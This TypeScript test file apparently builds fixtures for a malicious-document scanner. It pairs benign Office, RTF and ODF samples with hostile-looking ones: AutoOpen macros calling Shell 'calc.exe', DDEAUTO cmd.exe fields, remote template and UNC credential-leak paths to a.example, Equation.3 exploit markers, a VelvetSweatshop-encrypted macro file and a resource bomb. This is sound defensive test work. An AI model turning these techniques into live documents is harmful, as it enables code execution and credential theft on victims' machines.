import { textCharsMax } from "../../../../core/documents/Fact.ts"
import { makeWorkbook } from "../excel/MakeWorkbook.ts"
import { encryptStandard } from "../office-crypto/EncryptPackage.ts"
import { makeCompoundFile } from "../ole/MakeCompoundFile.ts"
import { field, makeDoc } from "../ole/MakeDoc.ts"
import { makePackage } from "../ole/MakeObjects.ts"
import {
  type MadeRelationship,
  mainTypes,
  makeOoxml,
  paragraph,
  run,
  wordDocument,
  workbook
} from "../ooxml/MakeOoxml.ts"
import { embedded, hexOf, objectOf, rtf } from "../rtf/MakeRtf.ts"
import { makeVba } from "../vba/MakeVba.ts"
import { makeZip } from "../zip/MakeZip.ts"
import { type ReasonCase, reasonCase as of } from "./Case.ts"

const main = "word/document.xml"

const related = (type: string, target: string, mode: "External" | "Internal" = "External"): Uint8Array =>
  makeOoxml({ relationships: { [main]: [{ id: "rId9", type, target, mode }] } })

const word = (body: string): Uint8Array => makeOoxml({ mainContent: wordDocument(body) })

const withPart = (
  name: string,
  content: string | Uint8Array,
  relationship: Omit<MadeRelationship, "id" | "target">,
  type?: string
): Uint8Array =>
  makeOoxml({
    parts: { [`word/${name}`]: content },
    ...(type === undefined ? {} : { types: { [`word/${name}`]: type } }),
    relationships: { [main]: [{ id: "rId9", target: name, ...relationship }] }
  })

const webExtension = (reference: string): Uint8Array =>
  withPart(
    "webextensions/webextension1.xml",
    `<we:webextension xmlns:we="urn:we">${reference}</we:webextension>`,
    { type: "http://schemas.microsoft.com/office/2011/relationships/webextension" },
    "application/vnd.ms-office.webextension+xml"
  )

const vbaRelationship = { type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject" }

const macros = (source: string, mainType: string = mainTypes.docm, options = {}): Uint8Array =>
  makeOoxml({
    main: mainType,
    parts: { "word/vbaProject.bin": makeVba([{ name: "M", source: source.replaceAll("\n", "\r\n") }], options) },
    relationships: { [main]: [{ id: "rId9", target: "vbaProject.bin", ...vbaRelationship }] }
  })

const calm = "Sub A()\nBeep\nEnd Sub\n"
const starting = (call: string) => `Sub AutoOpen()\n${call}\nEnd Sub\n`
const chaos = Array.from(
  { length: 60 },
  (_, at) => `q${at} = Chr(${65 + at % 20} Xor 3) & Chr(${70 + at % 9} Xor 7) & StrReverse("zyx${at}")`
).join("\n")

const macroSheet = (state: number, formulas: ReadonlyArray<string>): Uint8Array => {
  const relationship = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
  const visibility = ["", " state=\"hidden\"", " state=\"veryHidden\""][state]!
  return makeOoxml({
    main: mainTypes.xlsm,
    mainName: "xl/workbook.xml",
    mainContent: workbook(`<sheets><sheet name="M" sheetId="1" r:id="rId9"${visibility}/></sheets>`),
    parts: {
      "xl/macrosheets/sheet1.xml":
        `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${
          formulas.map((text, at) => `<c r="A${at + 1}"><f>${text}</f></c>`).join("")
        }</row></sheetData></xm:macrosheet>`
    },
    types: { "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml" },
    relationships: { "xl/workbook.xml": [{ id: "rId9", type: relationship, target: "macrosheets/sheet1.xml" }] }
  })
}

const instruction = (text: string): Uint8Array =>
  word(`<w:p><w:fldSimple w:instr="${text.replaceAll("\"", "&quot;")}"/></w:p>`)

const olePackage = (name: string, bytes: string): Uint8Array =>
  makeCompoundFile({
    ...makeDoc({}),
    "ObjectPool/_1/\x01Ole10Native": makePackage({ label: name, fileName: name, bytes })
  })

const equation = (words: string): Uint8Array =>
  rtf(objectOf(embedded("Equation.3", Buffer.from("abcd")), "Equation.3", words))

const customUi = (onLoad: string): Uint8Array =>
  makeOoxml({
    parts: {
      "customUI/customUI.xml": `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"${onLoad}/>`
    },
    relationships: {
      "": [{
        id: "rId9",
        type: "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
        target: "customUI/customUI.xml"
      }]
    }
  })

const activeX = (xml: string): Uint8Array =>
  withPart("activeX/activeX1.xml", xml, { type: "control" }, "application/vnd.ms-office.activeX+xml")

const packageHex = hexOf(embedded("Package", Buffer.from("abcd")))

const tampered = makeZip([
  { name: "[Content_Types].xml", content: "<Types/>" },
  { name: "word/a.xml", localName: "word/b.xml", content: "<a/>" }
])

const encrypted = (content: Uint8Array, password: string) => encryptStandard(content, password, 128)

const nothing = makeOoxml({})
const odfZip = (more: ReadonlyArray<{ readonly name: string; readonly content: string }>, body = "") =>
  makeZip([
    { name: "mimetype", content: "application/vnd.oasis.opendocument.text", isStored: true },
    {
      name: "content.xml",
      content:
        `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">${body}</office:document-content>`
    },
    ...more
  ])

const longText = (chars: number): Uint8Array =>
  odfZip(
    [],
    `<office:body><text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">${
      "many words ".repeat(Math.ceil(chars / 11))
    }</text:p></office:body>`
  )

export const officeCases: ReadonlyArray<ReasonCase> = [
  of("MACRO_PRESENT", 8, macros("Option Explicit\n"), nothing),
  of("MACRO_PRESENT", 18, macros(calm), macros("' Sub A()\n")),
  of("MACRO_AUTORUN", 25, macros(starting("Beep")), macros("Sub AutoOpenLater()\nBeep\nEnd Sub\n")),
  of("MACRO_SUSPICIOUS", 60, macros(starting("Shell \"calc.exe\"")), macros(starting("MsgBox \"Shell\""))),
  of("MACRO_OBFUSCATED", 25, macros(`Sub A()\n${chaos}\nEnd Sub\n`), macros(calm)),
  of("MACRO_HIDDEN", 45, macros(calm, mainTypes.docx), macros(calm)),
  of("MACRO_HIDDEN", 16, macros(calm, mainTypes.docm, { names: null }), macros(calm)),
  of("XLM_MACRO", 35, macroSheet(0, ["RETURN()"]), nothing),
  of("XLM_MACRO", 45, macroSheet(1, ["RETURN()"]), macroSheet(0, ["RETURN()"])),
  of("XLM_MACRO", 70, macroSheet(0, ["EXEC(&quot;calc.exe&quot;)"]), macroSheet(0, ["ALERT(&quot;EXEC&quot;)"])),
  of("DDE_LINK", 35, instruction("DDEAUTO Excel Book1.xls Sheet1"), instruction("DATE dde")),
  of(
    "DDE_LINK",
    75,
    instruction("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""),
    instruction("DDEAUTO Excel b.xls S1")
  ),
  of(
    "REMOTE_TEMPLATE",
    55,
    related("attachedTemplate", "http://a.example/t.dotm"),
    related("attachedTemplate", "file:///C:\\t.dotm")
  ),
  of(
    "REMOTE_TEMPLATE",
    20,
    related("attachedTemplate", "https://company.sharepoint.com/t.dotx"),
    related("attachedTemplate", "file:///C:\\t.dotm")
  ),
  of("REMOTE_TEMPLATE", 2, related("attachedTemplate", "file:///C:\\t.dotm"), nothing),
  of("REMOTE_OBJECT", 6, related("oleObject", "file:///C:\\a.xlsx"), nothing),
  of(
    "REMOTE_OBJECT",
    45,
    related("oleObject", "https://a.example/a.xlsx"),
    related("oleObject", "https://a.sharepoint.com/a.xlsx")
  ),
  of(
    "REMOTE_OBJECT",
    75,
    related("oleObject", "https://a.example/a.html!"),
    related("oleObject", "https://a.example/a.html")
  ),
  of("REMOTE_CONTENT", 4, related("externalLinkPath", "book.xlsx"), nothing),
  of("REMOTE_CONTENT", 8, related("image", "https://a.example/a.png"), related("image", "media/a.png")),
  of(
    "REMOTE_CONTENT",
    16,
    makeOoxml({
      main: mainTypes.xlsx,
      mainName: "xl/workbook.xml",
      mainContent: workbook(""),
      parts: {
        "xl/connections.xml":
          `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4"><webPr url="https://a.example/"/></connection></connections>`
      },
      types: { "xl/connections.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml" },
      relationships: { "xl/workbook.xml": [{ id: "rId9", type: "connections", target: "connections.xml" }] }
    }),
    nothing
  ),
  of(
    "REMOTE_CONTENT",
    25,
    instruction("INCLUDETEXT \"https://a.example/t.docx\""),
    instruction("INCLUDETEXT \"t.docx\"")
  ),
  of(
    "ALT_CHUNK",
    18,
    withPart("chunk.html", "<p>hi</p>", { type: "aFChunk" }, "text/html"),
    word(paragraph(run("aFChunk")))
  ),
  of("OLE_PACKAGE", 8, olePackage("notes.txt", "hello"), makeCompoundFile(makeDoc({}))),
  of("EMBEDDED_EXECUTABLE", 65, olePackage("setup.exe", "hello"), olePackage("setup.txt", "hello")),
  of("EXPLOIT_OBJECT", 8, equation("\\objemb"), rtf("Equation.3")),
  of("EXPLOIT_OBJECT", 60, equation("\\objemb\\objupdate"), equation("\\objemb")),
  of(
    "ACTIVEX_CONTROL",
    18,
    activeX(
      "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\"/>"
    ),
    word(paragraph(run("activeX")))
  ),
  of("CUSTOM_UI_ONLOAD", 20, customUi(" onLoad=\"Start\""), customUi("")),
  of("CUSTOM_UI_ONLOAD", 55, customUi(" onLoad=\"\\\\a.example\\x.xlam!Start\""), customUi(" onLoad=\"Start\"")),
  of(
    "ADDIN_LOADER",
    8,
    webExtension("<we:reference id=\"WA104382081\" store=\"en-US\"/>"),
    webExtension("")
  ),
  of(
    "ADDIN_LOADER",
    20,
    webExtension("<we:reference id=\"WA104382081\" store=\"\\\\a.example\\share\"/>"),
    webExtension("<we:reference id=\"WA104382081\" store=\"en-US\"/>")
  ),
  of(
    "ADDIN_LOADER",
    20,
    makeOoxml({ main: mainTypes.xlam, mainName: "xl/workbook.xml", mainContent: workbook("") }),
    makeOoxml({ main: mainTypes.xlsm, mainName: "xl/workbook.xml", mainContent: workbook("") })
  ),
  of("RTF_OBJECT_UPDATE", 45, equation("\\objemb\\objupdate"), equation("\\objemb")),
  of(
    "OBFUSCATED_OBJECT",
    40,
    rtf(`{\\object\\objemb{\\*\\objdata ${packageHex.slice(0, 20)}{\\object}${packageHex.slice(20)}}}`),
    rtf(`{\\object\\objemb{\\*\\objdata ${packageHex}}}`)
  ),
  of("ARCHIVE_TAMPERED", 35, tampered, nothing),
  of(
    "RESOURCE_BOMB",
    60,
    makeOoxml({ parts: { "word/a.xml": new Uint8Array(8_000_000) } }),
    makeOoxml({ parts: { "word/a.xml": new Uint8Array(900_000) } })
  ),
  of("PARTIAL_SCAN", 8, longText(textCharsMax), longText(textCharsMax - 100)),
  of("PARTIAL_SCAN", 16, deep(6), deep(2)),
  of("ENCRYPTED", 20, makeCompoundFile(makeDoc({ isEncrypted: true })), makeCompoundFile(makeDoc({}))),
  of(
    "MACRO_PRESENT",
    18,
    odfZip([{
      name: "Basic/Standard/M.xml",
      content:
        "<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:language=\"StarBasic\">Sub A\nEnd Sub</script:module>"
    }]),
    odfZip([])
  ),
  of(
    "CREDENTIAL_LEAK_PATH",
    60,
    makeCompoundFile(makeDoc({ template: "\\\\a.example\\t.dot" })),
    makeCompoundFile(makeDoc({ template: "\\\\server\\t.dot" }))
  ),
  of(
    "DDE_LINK",
    75,
    makeCompoundFile(makeDoc({ pieces: [field("DDEAUTO cmd.exe \"/c calc\"")] })),
    makeCompoundFile(makeDoc({ pieces: ["DDEAUTO cmd.exe"] }))
  ),
  of("ENCRYPTED_DEFAULT_PASSWORD", 20, encrypted(nothing, "VelvetSweatshop"), encrypted(nothing, "another")),
  of(
    "ENCRYPTED_DEFAULT_PASSWORD",
    45,
    encrypted(macros(calm), "VelvetSweatshop"),
    encrypted(nothing, "VelvetSweatshop")
  ),
  of(
    "MALFORMED",
    4,
    makeOoxml({ mainContent: "<a><b></a>" }),
    makeCompoundFile({ Workbook: makeWorkbook([{ name: "S" }]) })
  )
]

/** Packages within packages. */
function deep(levels: number): Uint8Array {
  return levels === 0
    ? nothing
    : withPart("embeddings/a.docx", deep(levels - 1), { type: "package" })
}
